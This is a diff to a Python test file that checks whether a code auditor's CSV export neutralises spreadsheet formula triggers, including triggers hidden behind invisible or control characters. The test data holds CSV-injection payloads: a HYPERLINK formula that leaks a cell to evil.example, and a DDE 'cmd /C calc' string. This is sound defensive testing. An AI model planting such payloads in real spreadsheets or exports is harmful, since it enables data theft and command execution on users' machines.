@@ -11,6 +11,7 @@ import csv
 import io
 import json
 import re
+import unicodedata
 from datetime import date
 
 import pytest
@@ -22,6 +23,7 @@ from auditor.models import FileReport, Finding, Reason, ScanResult, Severity
 from auditor.render import console, json_dump, report_messages
 from auditor.render.findings import findings_table
 from auditor.render.findings_csv import CSV_COLUMNS, write_csv
+from auditor.render.safety import printable
 from auditor.render.messages import summary_line
 from auditor.render.table import identify_table
 
@@ -82,7 +84,13 @@ def csv_records(scan: ScanResult, lang: str = "en") -> list[dict[str, str]]:
 
 
 def starts_with_trigger(cell: str) -> bool:
-    return cell.lstrip(" \u3000").startswith(TRIGGERS)
+    return cell.lstrip().startswith(TRIGGERS)
+
+
+def csv_shown(description: str) -> str:
+    """A descriptor as CSV holds it: controls and invisibles as \\uXXXX, then the ' guard."""
+    shown = printable(description)
+    return "'" + shown if starts_with_trigger(shown) else shown
 
 
 def render_table(scan: ScanResult, lang: str = "en", width: int = 160) -> str:
@@ -121,13 +129,27 @@ def messages(reports: list[FileReport]) -> str:
 @pytest.mark.parametrize("description", [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=1+1", "+81-3-1234-5678", "-2+3", "@SUM(A1:A9)",
-    "\t=1", "\r\n=1", "\n=1", "\tPAYPAY", "\r\nPAYPAY", "\nPAYPAY",
     "＝１＋１", "＋ペイペイ", "－１", "＠ｃｍｄ",
-    "  =1", "\u3000=1", " \u3000 +cmd|' /C calc'!A0", "\u3000\u3000＠x", "   \t=1", " \u3000\n-1",
+    "  =1", "\u3000=1", " \u3000 +cmd|' /C calc'!A0", "\u3000\u3000＠x",
+    "\u00a0=1", "\u2002\u00a0+1", "\u205f@x",  # NBSP, EN SPACE, MEDIUM MATHEMATICAL SPACE
 ])
 def test_csv_prefixes_formula_triggers(description: str) -> None:
     [record] = csv_records(result(finding(description)))
     assert record["description"] == "'" + description
+    assert not starts_with_trigger(record["description"])
+
+
+@pytest.mark.parametrize(("description", "shown"), [
+    ("\t=1", "\\u0009=1"), ("\r\n=1", "\\u000d\\u000a=1"), ("\tPAYPAY", "\\u0009PAYPAY"),
+    ("   \t=1", "   \\u0009=1"), (" \u3000\n-1", " \u3000\\u000a-1"),
+    ("\u200b=1", "\\u200b=1"), ("\ufeff+1", "\\ufeff+1"), ("\u3164@x", "\\u3164@x"),
+    ("ﾍﾟｲﾍﾟｲ\x1b[2J", "ﾍﾟｲﾍﾟｲ\\u001b[2J"), ("ﾍﾟｲ\ufe00ﾍﾟｲ", "ﾍﾟｲ\\ufe00ﾍﾟｲ"),
+])
+def test_csv_shows_controls_and_invisibles_as_text(description: str, shown: str) -> None:
+    """A raw ESC reached the CSV; a ZWSP or BOM before = hid the formula from the check.
+    Shown as \\uXXXX, as the table shows them, the cell starts with a backslash: inert."""
+    [record] = csv_records(result(finding(description)))
+    assert record["description"] == shown
     assert not starts_with_trigger(record["description"])
 
 
@@ -189,8 +211,7 @@ def test_csv_columns_and_values() -> None:
 def test_csv_round_trips_commas_quotes_and_newlines(description: str) -> None:
     records = csv_records(result(finding(description), finding("PAYPAY", line=8)))
     assert len(records) == 2
-    expected = "'" + description if starts_with_trigger(description) else description
-    assert records[0]["description"] == expected
+    assert records[0]["description"] == csv_shown(description)
     assert records[1]["description"] == "PAYPAY"
     assert records[1]["line"] == "8"
 
@@ -201,8 +222,7 @@ def test_csv_round_trips_commas_quotes_and_newlines(description: str) -> None:
 def test_csv_bare_carriage_return_stays_in_its_cell(description: str) -> None:
     rows = csv_rows(result(finding(description)))
     assert len(rows) == 2
-    expected = "'" + description if starts_with_trigger(description) else description
-    assert dict(zip(CSV_COLUMNS, rows[1], strict=True))["description"] == expected
+    assert dict(zip(CSV_COLUMNS, rows[1], strict=True))["description"] == csv_shown(description)
 
 
 def test_csv_with_no_findings_is_only_the_header() -> None:
@@ -222,7 +242,8 @@ def test_csv_property_no_cell_starts_with_a_trigger(descriptions: list[str]) -> 
             assert not starts_with_trigger(record[column]), (column, record[column])
         for column in NUMERIC_COLUMNS:
             assert re.fullmatch(r"\d+", record[column])
-        assert record["description"] in (text, "'" + text)
+        assert record["description"] == csv_shown(text)
+        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in record["description"])
 
 
 # --- Rich findings table -------------------------------------------------------------------
